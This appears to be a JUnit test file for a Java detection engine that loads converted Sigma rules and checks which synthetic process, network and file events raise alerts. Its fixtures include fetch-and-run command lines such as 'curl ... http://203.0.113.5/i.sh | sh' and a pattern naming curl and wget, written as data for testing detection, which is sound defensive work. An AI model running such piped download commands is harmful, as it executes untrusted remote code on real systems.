package dev.hookline.sigma;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.hookline.alert.Alert;
import dev.hookline.rules.Detector;
import dev.hookline.rules.Rule;
import dev.hookline.rules.RuleException;
import dev.hookline.rules.RuleLoader;
import dev.hookline.rules.Tuning;
import dev.hookline.schema.Columns;
import dev.hookline.schema.Event;
import dev.hookline.schema.Table;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Sigma files load through RuleLoader (directory or file) and raise alerts like any rule. */
class ConvertedSigmaRulesFireThroughTheDetectorTest {
    @TempDir
    Path dir;

    private List<Rule> load() throws Exception {
        for (String f : new String[] {"proc_curl_piped_to_shell.yml", "net_pm_registry_ports.yml",
            "file_workflow_written_by_node.yml"}) {
            Files.writeString(dir.resolve(f), SigmaConvertsToKqlTest.resource(f));
        }
        return new RuleLoader().load(dir);
    }

    private static List<String> fire(List<Rule> rules, Event... events) throws RuleException {
        List<String> out = new ArrayList<>();
        Detector d = new Detector(rules, Tuning.NONE, (Alert a) -> out.add(a.rule().id()));
        for (Event e : events) {
            d.accept(e, 0);
        }
        return out;
    }

    private static Event proc(String cmd) {
        return new Event(Table.DeviceProcessEvents).set(Columns.FILE_NAME, "sh").set(Columns.FOLDER_PATH, "/bin/sh")
                .set(Columns.PROCESS_COMMAND_LINE, cmd);
    }

    @Test
    void loadsWithSigmaMetadata() throws Exception {
        List<Rule> rules = load();
        assertEquals(3, rules.size());
        Rule curl = rules.stream().filter(r -> r.meta().title().startsWith("Curl")).findFirst().orElseThrow();
        assertEquals("sigma.5f0a7d2e-1c4b-4c61-9d7e-2f3a1b6c8e01", curl.id());
        assertEquals("high", curl.meta().severity());
        assertEquals("medium", curl.meta().confidence(), "status test");
        assertEquals(List.of("T1059", "T1059.004"), curl.meta().mitreIds());
        assertEquals(List.of("Execution"), curl.meta().tactics());
        assertEquals(List.of("Installers documented as curl | sh (rustup, Homebrew)"), curl.meta().falsePositives());
        Rule net = rules.stream().filter(r -> r.meta().title().startsWith("Node")).findFirst().orElseThrow();
        assertEquals("low", net.meta().confidence(), "status experimental");
        assertTrue(net.meta().notes().contains("Initiated is ignored"), net.meta().notes());
    }

    @Test
    void curlPipedToShellFiresCaseInsensitivelyAndHonoursItsFilter() throws Exception {
        List<Rule> rules = load();
        String id = "sigma.5f0a7d2e-1c4b-4c61-9d7e-2f3a1b6c8e01";
        assertEquals(List.of(id), fire(rules, proc("sh -c \"curl -fsSL http://203.0.113.5/i.sh | sh\"")));
        assertEquals(List.of(id), fire(rules, proc("sh -c \"CURL -fsSL http://203.0.113.5/i.sh |BASH\"")));
        assertEquals(List.of(), fire(rules, proc("sh -c \"curl -fsSL http://127.0.0.1/i.sh | sh\"")), "filtered");
        assertEquals(List.of(), fire(rules, proc("sh -c \"curl -o x http://203.0.113.5/i.sh\"")), "no pipe");
    }

    @Test
    void networkRuleFiresOnItsPortsOnly() throws Exception {
        List<Rule> rules = load();
        Event verdaccio = new Event(Table.DeviceNetworkEvents).set(Columns.INITIATING_PROCESS_FOLDER_PATH, "/usr/bin/node")
                .set(Columns.REMOTE_IP, "127.0.0.1").set(Columns.REMOTE_PORT, 4873);
        Event npmjs = new Event(Table.DeviceNetworkEvents).set(Columns.INITIATING_PROCESS_FOLDER_PATH, "/usr/bin/node")
                .set(Columns.REMOTE_IP, "104.16.0.35").set(Columns.REMOTE_PORT, 443);
        Event devpi = new Event(Table.DeviceNetworkEvents).set(Columns.INITIATING_PROCESS_FOLDER_PATH, "/usr/bin/PIP3")
                .set(Columns.REMOTE_PORT, 3141);
        assertEquals(List.of("sigma.0b8e0c52-7c1e-4a8b-a1f4-2c6d3e9f7a10"), fire(rules, verdaccio));
        assertEquals(List.of(), fire(rules, npmjs));
        assertEquals(List.of("sigma.0b8e0c52-7c1e-4a8b-a1f4-2c6d3e9f7a10"), fire(rules, devpi));
    }

    @Test
    void fileRuleNeedsEveryContainsValue() throws Exception {
        List<Rule> rules = load();
        Event wf = new Event(Table.DeviceFileEvents).set(Columns.FOLDER_PATH, "/home/dev/p/.github/workflows/x.yml")
                .set(Columns.INITIATING_PROCESS_FOLDER_PATH, "/usr/bin/node").set(Columns.ACTION_TYPE, "FileCreated");
        Event notWf = new Event(Table.DeviceFileEvents).set(Columns.FOLDER_PATH, "/home/dev/p/.github/x.yml")
                .set(Columns.INITIATING_PROCESS_FOLDER_PATH, "/usr/bin/node");
        assertEquals(List.of("sigma.9d7c1e2a-3b4f-4e5a-8c6d-7e8f9a0b1c2d"), fire(rules, wf));
        assertEquals(List.of(), fire(rules, notWf));
    }

    @Test
    void aBadSigmaFileIsARuleExceptionNamingIt() throws Exception {
        Path bad = dir.resolve("bad.yml");
        Files.writeString(bad, "title: t\nlogsource:\n  category: process_creation\ndetection:\n  sel:\n"
                + "    CommandLine|re: '(a)\\1'\n  condition: sel\n");
        RuleException e = assertThrows(RuleException.class, () -> new RuleLoader().load(bad));
        assertTrue(e.getMessage().startsWith(bad.toString() + ": "), e.getMessage());
        assertTrue(e.getMessage().contains("'re'") && e.getMessage().contains("backreference"), e.getMessage());
    }

    @Test
    void regexAndCidrSelectionsFire() throws Exception {
        Path f = dir.resolve("re-cidr.yml");
        Files.writeString(f, "title: t\nid: 11111111-2222-3333-4444-555555555555\nlogsource:\n"
                + "  category: network_connection\ndetection:\n  sel:\n"
                + "    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - 'fd00::/8'\n"
                + "    Image|re: '/(curl|wget)$'\n  condition: sel\n");
        List<Rule> rules = new RuleLoader().load(f);
        Event curlPrivate = new Event(Table.DeviceNetworkEvents).set(Columns.REMOTE_IP, "10.9.8.7")
                .set(Columns.INITIATING_PROCESS_FOLDER_PATH, "/usr/bin/curl");
        Event curlV6 = new Event(Table.DeviceNetworkEvents).set(Columns.REMOTE_IP, "fd12::5")
                .set(Columns.INITIATING_PROCESS_FOLDER_PATH, "/usr/bin/curl");
        Event curlPublic = new Event(Table.DeviceNetworkEvents).set(Columns.REMOTE_IP, "203.0.113.9")
                .set(Columns.INITIATING_PROCESS_FOLDER_PATH, "/usr/bin/curl");
        Event curlBadIp = new Event(Table.DeviceNetworkEvents).set(Columns.REMOTE_IP, "not-an-ip")
                .set(Columns.INITIATING_PROCESS_FOLDER_PATH, "/usr/bin/curl");
        Event curlish = new Event(Table.DeviceNetworkEvents).set(Columns.REMOTE_IP, "10.0.0.1")
                .set(Columns.INITIATING_PROCESS_FOLDER_PATH, "/usr/bin/curl2");
        String id = "sigma.11111111-2222-3333-4444-555555555555";
        assertEquals(List.of(id), fire(rules, curlPrivate));
        assertEquals(List.of(id), fire(rules, curlV6));
        assertEquals(List.of(), fire(rules, curlPublic));
        assertEquals(List.of(), fire(rules, curlBadIp));
        assertEquals(List.of(), fire(rules, curlish));
    }
}
